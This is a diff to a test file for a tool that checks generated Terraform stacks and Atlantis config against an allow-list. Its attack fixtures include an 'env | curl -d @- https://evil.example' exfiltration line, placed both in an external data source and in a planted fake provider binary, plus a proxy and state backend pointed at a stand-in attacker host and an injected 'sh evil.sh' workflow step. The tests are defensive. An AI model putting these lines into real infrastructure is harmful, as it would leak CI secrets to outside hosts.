@@ -82,6 +82,7 @@ def test_the_compilers_own_output_passes_and_equals_its_rebuild(repo, run_cli):
     assert out == "check-stacks: 20 stack(s) hold only what the compiler emits, and equal this compiler's build of the commit's registry\n"
 
 
+PLUGIN = ".terraform/providers/registry.terraform.io/hashicorp/aws/6.69.1/linux_amd64"
 EXTERNAL = '{"data": {"external": {"x": {"program": ["sh", "-c", "env | curl -d @- https://evil.example"]}}}, '
 ATTACKS = [
     (
@@ -108,22 +109,22 @@ ATTACKS = [
         "state read over http",
         _edit_json(
             f"{STACK}/cdk.tf.json",
-            lambda d: d["data"]["terraform_remote_state"]["identity"].update({"backend": "http", "config": {"address": "https://evil.example"}}),
+            lambda d: d["data"]["terraform_remote_state"]["identity"].update(
+                {"backend": "http", "config": {"address": "https://evil.example"}}
+            ),
         ),
         'data terraform_remote_state.identity.backend: "http" where the compiler writes "s3"',
     ),
     (
         "a provider through a proxy",
-        _edit_json(f"{STACK}/cdk.tf.json", lambda d: d["provider"]["aws"][0].update({"http_proxy": "http://evil.example", "insecure": True})),
+        _edit_json(f"{STACK}/cdk.tf.json", lambda d: d["provider"]["aws"][0].update({"http_proxy": "http://evil", "insecure": True})),
         'provider.aws[0]."http_proxy": not allowed',
     ),
     (
         "a committed .terraform with a provider binary and its lock file",
         lambda root: (
-            (root / STACK / ".terraform/providers/registry.terraform.io/hashicorp/aws/6.69.1/linux_amd64").mkdir(parents=True),
-            (root / STACK / ".terraform/providers/registry.terraform.io/hashicorp/aws/6.69.1/linux_amd64/terraform-provider-aws").write_text(
-                "#!/bin/sh\nenv | curl -d @- https://evil.example\n"
-            ),
+            (root / STACK / PLUGIN).mkdir(parents=True),
+            (root / STACK / PLUGIN / "terraform-provider-aws").write_text("#!/bin/sh\nenv | curl -d @- https://evil.example\n"),
             (root / STACK / ".terraform.lock.hcl").write_text('provider "registry.terraform.io/hashicorp/aws" {}\n'),
         ),
         '"pricing-dev": ".terraform" is a folder; a stack folder holds exactly one plain file, cdk.tf.json',
@@ -186,7 +187,8 @@ def test_a_pull_request_that_changes_the_compiler_is_held_to_the_allow_list(repo
     touch = _edit_text("modules/naming.py", '"""', '"""A harmless edit. ')
     code, out, _ = check(run_cli, repo, plant(repo, touch))
     assert code == 0 and "the commit changes the compiler: modules/naming.py; not compared with a rebuild" in out
-    planted = plant(repo, lambda root: (touch(root), _edit_json(f"{STACK}/cdk.tf.json", lambda d: d["data"].update({"external": {}}))(root)))
+    external = _edit_json(f"{STACK}/cdk.tf.json", lambda d: d["data"].update({"external": {}}))
+    planted = plant(repo, lambda root: (touch(root), external(root)))
     code, _, err = check(run_cli, repo, planted)
     assert code == 1 and 'data source "external" is not allowed' in err
     bumped = plant(repo, _edit_text("pyproject.toml", '"pyyaml==6.0.3"', '"pyyaml==6.0.2"'))
@@ -224,7 +226,7 @@ def test_with_a_changed_compiler_atlantis_yaml_may_hold_only_what_the_compiler_w
     touch = _edit_text("modules/naming.py", '"""', '"""A harmless edit. ')
     edits = [
         ("projects:", "workflows: {registry: {plan: {steps: [{run: sh evil.sh}]}}}\nprojects:", 'key "workflows" is not one the compiler'),
-        ("  dir: generated/stacks/pricing-dev\n", "  dir: generated/stacks/pricing-dev\n  terraform_version: 0.12.0\n", '"terraform_version"'),
+        (f"  dir: {STACK}\n", f"  dir: {STACK}\n  terraform_version: 0.12.0\n", '"terraform_version"'),
         ("  dir: generated/stacks/pricing-dev\n", "  dir: evil\n", "is not a stack of the registry in its own folder"),
         ("projects:", "autodiscover: {mode: enabled}\nprojects:", 'key "autodiscover"'),
     ]
